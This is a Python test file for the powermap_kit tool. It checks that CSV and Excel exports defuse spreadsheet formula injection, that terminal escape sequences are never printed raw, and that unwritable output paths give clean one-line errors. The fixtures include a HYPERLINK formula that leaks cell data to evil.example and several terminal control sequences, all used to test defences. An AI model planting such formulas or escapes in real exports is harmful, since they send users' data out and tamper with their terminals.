"""Hostile text in outputs (issue 12): spreadsheet formulas, terminal escapes, unwritable outputs.

Every test here failed on the code before the fix.
"""

import csv
import io
import json
import os
import shutil
from pathlib import Path

import networkx as nx
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from budget import examples

import powermap_kit as pk
from powermap_kit.cli import main
from powermap_kit.grading import export_cohort, grade_cohort
from powermap_kit.tabular import export_csv, export_graphml, import_csv
from powermap_kit.validation import validate_data

FIXTURES = Path(__file__).parent / "fixtures"
KEY = FIXTURES / "grading_key.json"
LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
RISKY = [LEAK, "+1+2", "-2+3", "@SUM(A1:A9)", "=1+2"]


def _submissions(tmp_path: Path) -> Path:
    folder = tmp_path / "subs"
    folder.mkdir()
    data = json.loads((FIXTURES / "grading_good.json").read_text("utf-8"))
    for n, author in enumerate(RISKY):
        data["meta"]["author"] = author
        data["stakeholders"][0]["name"] = RISKY[-1 - n]
        (folder / f"s{n}.json").write_text(json.dumps(data, ensure_ascii=False), "utf-8")
    (folder / "=cmd.json").write_text("{oops", "utf-8")           # a file name that looks like a formula
    return folder


def _xlsx_cells(path: Path) -> list:
    book = load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(path: Path) -> list:
    cells = _xlsx_cells(path)
    assert cells
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return cells


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _assert_defused(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            if cell.startswith("-"):                # a minus is fine only on a number
                float(cell)


# ---- 1. spreadsheet formula injection ------------------------------------------------------

def test_score_xlsx_has_no_formula_and_numbers_stay_numbers(tmp_path):
    out = tmp_path / "scores.xlsx"
    assert main(["score", "--key", str(KEY), str(_submissions(tmp_path)), "--format", "xlsx", "--out", str(out)]) == 1
    cells = _assert_no_formula(out)
    values = [c.value for c in cells]
    assert LEAK in values and "=cmd" in values                 # kept as text, shown as typed
    assert any(isinstance(v, float) and 0 < v <= 100 for v in values)


def test_score_csv_cells_are_defused(tmp_path, capsys):
    assert main(["score", "--key", str(KEY), str(_submissions(tmp_path)), "--format", "csv"]) == 1
    rows = _csv_rows(capsys.readouterr().out)
    _assert_defused(rows)
    first = {r[0]: r for r in rows[1:]}
    assert "'" + LEAK in first and "'-2+3" in first
    assert float(first["'" + LEAK][-2]) > 0                     # the total is still a plain number


def test_export_cohort_csv_and_xlsx(tmp_path):
    frame = grade_cohort(_submissions(tmp_path), KEY)
    _assert_defused(_csv_rows(export_cohort(frame, tmp_path / "c.csv").read_text("utf-8")))
    cells = _assert_no_formula(export_cohort(frame, tmp_path / "c.xlsx"))
    assert "@SUM(A1:A9)" in [c.value for c in cells]


def _risky_map() -> pk.PowerMap:
    pm = pk.PowerMap()
    for n, name in enumerate(RISKY):
        pm.add_stakeholder({"id": f"p{n}", "name": name, "title": "+CIO", "roles": ["approver"], "power": 4,
                            "stance": "oppose", "notes": "- met at the fair\n- plays golf"})
    return pm


def test_export_csv_defuses_and_import_keeps_text(tmp_path, capsys):
    src = tmp_path / "m.json"
    pk.save_map(_risky_map(), src)
    assert main(["export", str(src), "--to", "csv", "--out", "-"]) == 0
    rows = _csv_rows(capsys.readouterr().out)
    _assert_defused(rows)
    assert rows[1][5] == "4"                                    # power stays a number
    export_csv(_risky_map(), tmp_path / "m.csv")
    once = import_csv(tmp_path / "m.csv").map
    # Import keeps the cell as plain text, defusing quote included; nothing is evaluated or lost.
    assert [p.name for p in once] == ["'" + name for name in RISKY]
    assert [p.power for p in once] == [4] * len(RISKY)
    # A second round trip changes nothing more: the quote is added once, never piled up.
    export_csv(once, tmp_path / "again.csv")
    twice = import_csv(tmp_path / "again.csv").map
    assert [(p.name, p.title, p.notes) for p in twice] == [(p.name, p.title, p.notes) for p in once]


def test_import_keeps_formula_text_as_plain_text():
    quoted = '"' + LEAK.replace('"', '""') + '"'
    person = next(iter(import_csv(io.StringIO(f"Name,Title\n{quoted},'=1+2\n")).map))
    assert (person.name, person.title) == (LEAK, "'=1+2")


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_action_plan_export_is_defused(tmp_path, suffix):
    src = tmp_path / "m.json"
    pk.save_map(_risky_map(), src)
    out = tmp_path / f"plan.{suffix}"
    assert main(["analyse", str(src), "--actions", str(out), "--out", str(tmp_path / "a.txt")]) == 0
    if suffix == "xlsx":
        values = [c.value for c in _assert_no_formula(out)]
        assert any(isinstance(v, str) and LEAK in v for v in values)
    else:
        rows = _csv_rows(out.read_text("utf-8"))
        _assert_defused(rows)
        assert len(rows) > 1


# ---- 2. terminal escapes and GraphML ----------------------------------------------------------

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31m\x9b31m\x90x\x9c\x08\x7f\u202e"
RAW = ("\x1b", "\x07", "\x9b", "\x90", "\x9c", "\x08", "\x7f", "\u202e")


def _hostile_map(tmp_path: Path) -> Path:
    data = json.loads((FIXTURES / "grading_good.json").read_text("utf-8"))
    data["meta"]["author"] = "Trainee" + ESCAPES
    for person in data["stakeholders"][:2]:
        person["name"] += ESCAPES
    path = tmp_path / ("map" + "\x1b[31m" + ".json")
    path.write_text(json.dumps(data, ensure_ascii=False), "utf-8")
    return path


def _assert_no_raw_controls(text: str) -> None:
    assert not [c for c in RAW if c in text], repr(text[:300])


@pytest.mark.parametrize("args", [
    ["analyse", "{map}"], ["analyse", "{map}", "--format", "json"], ["--lang", "zh", "analyse", "{map}"],
    ["score", "--key", str(KEY), "{map}"], ["score", "--key", str(KEY), "{map}", "{map}", "--format", "csv"],
    ["score", "--key", str(KEY), "{map}", "--format", "json"],
    ["validate", "{map}"], ["validate", "{map}", "--format", "json"],
    ["export", "{map}", "--to", "csv", "--out", "-"], ["export", "{map}", "--to", "graphml"],
    ["import", "{csv}", "--out", "{tmp}/imported\x1b[1m.json"],
])
def test_terminal_escapes_are_never_printed_raw(tmp_path, capsys, args):
    path = _hostile_map(tmp_path)
    table = tmp_path / "people\x9b.csv"
    table.write_text(f"Name,Role,Reports to\nWang{ESCAPES},Decision Maker,Boss{ESCAPES}\n", "utf-8")
    argv = [a.format(map=path, csv=table, tmp=tmp_path) for a in args]
    assert main(argv) in (0, 1)
    out, err = capsys.readouterr()
    _assert_no_raw_controls(out + err)
    if "json" in args and out.strip():
        json.loads(out)                                          # escapes keep JSON valid


@settings(max_examples=examples(300), deadline=None)
@given(st.text(st.characters(min_codepoint=0, max_codepoint=0x10FFFF), max_size=8), st.sampled_from(["", "王伟 “引号” ok"]))
def test_utf8_output_is_escaped_as_text_output_is(text, around):
    import io

    from powermap_kit.cli.output import SafeStream

    def written(send) -> str:
        raw = io.BytesIO()
        stream = io.TextIOWrapper(raw, encoding="utf-8", errors="strict", newline="")
        send(SafeStream(stream))
        stream.flush()
        return raw.getvalue().decode("utf-8")

    value = around + text + around
    assert written(lambda s: s.write_utf8(value.encode("utf-8", "surrogatepass"))) == written(lambda s: s.write(value))


def test_utf8_output_without_controls_goes_straight_to_the_bytes():
    import io

    from powermap_kit.cli.output import SafeStream

    class Bytes(io.BytesIO):
        writes = 0

        def write(self, data):
            Bytes.writes += 1
            return super().write(data)

    raw = Bytes()
    stream = io.TextIOWrapper(raw, encoding="utf-8")
    SafeStream(stream).write_utf8("王伟 “ok” \t\n".encode())
    assert raw.getvalue() == "王伟 “ok” \t\n".encode() and Bytes.writes == 1
    latin = io.TextIOWrapper(io.BytesIO(), encoding="latin-1", errors="strict")
    SafeStream(latin).write_utf8("王\x1b".encode())  # not UTF-8: written as text, escaped
    latin.flush()
    assert latin.buffer.getvalue() == b"\\u738b\\u001b"


_ANY_TEXT = st.one_of(st.text(st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=12),
                      st.text(st.characters(min_codepoint=0, max_codepoint=0x10FFFF), min_size=1, max_size=3),
                      st.sampled_from(["a\tb\nc", "x\r\ny", "&<>\"'", "]]>", "\ufffe", "\U0010ffff"]))


@settings(max_examples=examples(60), deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.filter_too_much])
@given(texts=st.lists(_ANY_TEXT, min_size=6, max_size=6))
def test_graphml_reads_back_for_any_text_the_format_accepts(tmp_path, texts):
    name, title, notes, note, account, other = texts
    data = {"format": "powermap/1", "account": {"name": account}, "opportunity": {"name": other},
            "stakeholders": [{"id": "a", "name": name, "title": title, "notes": notes},
                             {"id": "b", "name": "Li Na & <Co>", "department": 'IT "x"'}],
            "relationships": [{"source": "a", "target": "b", "type": "influences", "note": note}]}
    assume(not validate_data(data))                              # any text the format accepts
    graph = nx.read_graphml(export_graphml(pk.load_map(data), tmp_path / "m.graphml"))
    assert graph.nodes["b"]["name"] == "Li Na & <Co>" and graph.nodes["b"]["department"] == 'IT "x"'
    assert graph.number_of_nodes() == 2 and graph.number_of_edges() == 1
    if all(t.isprintable() for t in texts):                      # ordinary text comes back exactly
        assert (graph.nodes["a"]["name"], graph.graph["account"]) == (name, account)


def test_graphml_writes_what_xml_cannot_hold_as_escapes(tmp_path):
    from powermap_kit.tabular import _xml

    graph = nx.MultiDiGraph(account=_xml("Acme\x01\ud800\uffff"), power=_xml(4))
    nx.write_graphml(graph, tmp_path / "g.graphml")
    assert nx.read_graphml(tmp_path / "g.graphml").graph == {
        "account": "Acme\\u0001\\ud800\\uffff", "power": 4, "node_default": {}, "edge_default": {}}


# ---- 9. no traceback: unwritable outputs, mathtext, long names -------------------------------

def _map_file(tmp_path: Path) -> Path:
    path = tmp_path / "m.json"
    shutil.copy(FIXTURES / "small.json", path)
    return path


OUTPUTS = [
    (["analyse", "{map}", "--out", "{out}"], "out.txt"),
    (["analyse", "{map}", "--format", "html", "--out", "{out}"], "out.html"),
    (["analyse", "{map}", "--out", "{tmp}/a.txt", "--actions", "{out}"], "plan.xlsx"),
    (["analyse", "{map}", "--out", "{tmp}/a.txt", "--actions", "{out}"], "plan.csv"),
    (["export", "{map}", "--to", "csv", "--out", "{out}"], "out.csv"),
    (["export", "{map}", "--to", "graphml", "--out", "{out}"], "out.graphml"),
    (["import", "{csv}", "--out", "{out}"], "out.json"),
    (["score", "--key", str(KEY), "{map}", "--format", "csv", "--out", "{out}"], "out.csv"),
    (["score", "--key", str(KEY), "{map}", "--format", "xlsx", "--out", "{out}"], "out.xlsx"),
    (["score", "--key", str(KEY), "{map}", "--format", "html", "--out", "{out}"], "out.html"),
    (["score", "--key", str(KEY), "{map}", "--format", "html", "--out", "{out}/"], "reports"),
]


def _run_to(tmp_path, capsys, argv_template, out):
    csv_file = tmp_path / "people.csv"
    csv_file.write_text("Name,Title\nWang Wei,CIO\n", "utf-8")
    argv = [a.format(map=_map_file(tmp_path), csv=csv_file, out=out, tmp=tmp_path) for a in argv_template]
    code = main(argv)
    return code, capsys.readouterr().err


def _assert_one_line_about(err: str, out: str) -> None:
    lines = [line for line in err.splitlines() if line.strip() and not line.startswith("wrote ")]
    assert len(lines) == 1, err
    assert out.rstrip("/") in lines[0] and ".tmp" not in lines[0] and "Traceback" not in err


@pytest.mark.parametrize("argv,name", OUTPUTS)
def test_output_is_a_folder(tmp_path, capsys, argv, name):
    if argv[0] == "score" and "html" in argv:
        pytest.skip("score --format html takes a folder: one page per submission")
    folder = tmp_path / "taken"
    (folder / name).mkdir(parents=True)
    out = str(folder / name) if not argv[-1].endswith("/") else str(tmp_path / "file.txt")
    if argv[-1].endswith("/"):
        Path(out).write_text("a file, not a folder", "utf-8")
    code, err = _run_to(tmp_path, capsys, argv, out)
    assert code in (1, 2)
    _assert_one_line_about(err, out)


@pytest.mark.parametrize("argv,name", OUTPUTS)
def test_output_under_a_file_or_missing_folder(tmp_path, capsys, argv, name):
    (tmp_path / "plain").write_text("x", "utf-8")
    out = str(tmp_path / "plain" / name)                       # its "folder" is a file
    code, err = _run_to(tmp_path, capsys, argv, out)
    assert code in (1, 2)
    _assert_one_line_about(err, out)


@pytest.mark.parametrize("argv,name", OUTPUTS)
def test_output_in_a_read_only_folder(tmp_path, capsys, monkeypatch, argv, name):
    folder = tmp_path / "locked"
    folder.mkdir()
    real = os.open

    def refuse(path, flags, *args, **kwargs):                   # a read-only folder refuses (even root)
        if os.path.abspath(path).startswith(str(folder)) and flags & (os.O_WRONLY | os.O_RDWR):
            raise PermissionError(13, "Permission denied", os.fspath(path))
        return real(path, flags, *args, **kwargs)

    monkeypatch.setattr(os, "open", refuse)
    out = str(folder / name) + ("/" if argv[-1].endswith("/") else "")
    code, err = _run_to(tmp_path, capsys, argv, out)
    assert code in (1, 2)
    _assert_one_line_about(err, out)
    assert "permission" in err


@pytest.mark.skipif(getattr(os, "geteuid", lambda: 0)() == 0, reason="root (or Windows) writes into a read-only folder")
def test_output_in_a_real_read_only_folder(tmp_path, capsys):
    folder = tmp_path / "locked"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        code, err = _run_to(tmp_path, capsys, ["analyse", "{map}", "--actions", "{out}"], str(folder / "p.xlsx"))
    finally:
        folder.chmod(0o755)
    assert code == 1
    _assert_one_line_about(err, str(folder / "p.xlsx"))


def test_missing_parent_of_actions_is_created(tmp_path, capsys):
    out = tmp_path / "new" / "deeper" / "plan.xlsx"
    code, _ = _run_to(tmp_path, capsys, ["analyse", "{map}", "--out", "{tmp}/a.txt", "--actions", "{out}"], str(out))
    assert code == 0 and out.is_file()


MATH = r"$\undefinedcmd$ 王$x^"


def test_mathtext_names_are_drawn_literally(tmp_path, capsys):
    data = json.loads((FIXTURES / "grading_good.json").read_text("utf-8"))
    data["stakeholders"][0]["name"] = MATH
    path = tmp_path / "m.json"
    path.write_text(json.dumps(data, ensure_ascii=False), "utf-8")
    assert main(["analyse", str(path), "--format", "html"]) == 0
    html = capsys.readouterr().out
    assert html.count("<svg") >= 1 and "$\\undefinedcmd$" in html
    assert main(["score", "--key", str(KEY), str(path), "--format", "html"]) == 0
    html = capsys.readouterr().out
    svg = html[html.index("<svg"):]                              # the picture is there, the name drawn in it
    assert "$\\undefinedcmd$" in svg


def test_long_chinese_authors_get_short_unique_report_names(tmp_path, capsys):
    folder = tmp_path / "subs"
    folder.mkdir()
    data = json.loads((FIXTURES / "grading_good.json").read_text("utf-8"))
    for n in range(3):
        data["meta"]["author"] = "销售培训学员" * 16 + "王伟丽"[n]    # 99 characters, ~300 bytes
        (folder / f"s{n}.json").write_text(json.dumps(data, ensure_ascii=False), "utf-8")
    for n, author in enumerate(["CON", "nul"]):
        data["meta"]["author"] = author
        (folder / f"w{n}.json").write_text(json.dumps(data, ensure_ascii=False), "utf-8")
    out = tmp_path / "reports"
    assert main(["score", "--key", str(KEY), str(folder), "--format", "html", "--out", f"{out}/"]) == 0
    names = sorted(p.name for p in out.iterdir())
    assert len(names) == 6 and len({n.lower() for n in names}) == 6
    assert all(len(n.encode("utf-8")) <= 200 for n in names)
    assert not {"con.html", "nul.html"} & {n.lower() for n in names}


def test_cells_excel_cannot_hold_are_escaped_not_fatal(tmp_path):
    import pandas as pd

    from powermap_kit.sheets import csv_text, write_table

    frame = pd.DataFrame({"name": ["Wang\x1b[31m\x00", "=1+2\ud800", "Li"], "total": [1.5, -2.0, 3.0]})
    values = [c.value for c in _assert_no_formula(write_table(frame, tmp_path / "t.xlsx"))]
    assert values == ["name", "total", "Wang\\u001b[31m\\u0000", 1.5, "=1+2\\ud800", -2.0, "Li", 3.0]
    assert csv_text(frame).splitlines()[2] == "'=1+2\\ud800,-2.0"


def test_an_unwrapped_os_error_still_names_the_output(tmp_path):
    from powermap_kit.cli.output import os_error_line

    out = str(tmp_path / "scores.csv")
    hidden = str(tmp_path / ".scores.csv.k3j9x.tmp")
    assert os_error_line(PermissionError(13, "Permission denied", hidden), [out]).startswith(f"cannot write {out}:")
    assert os_error_line(IsADirectoryError(21, "Is a directory", hidden, None, out), [out]) == \
        f"cannot write {out}: it is a folder; give a file name"
    assert os_error_line(FileNotFoundError(2, "No such file or directory", "/in.json"), [out]) == \
        "/in.json: No such file or directory"
    folder = str(tmp_path / "reports")
    assert folder in os_error_line(PermissionError(13, "Permission denied", folder + "/a.html"), [folder + "/"])
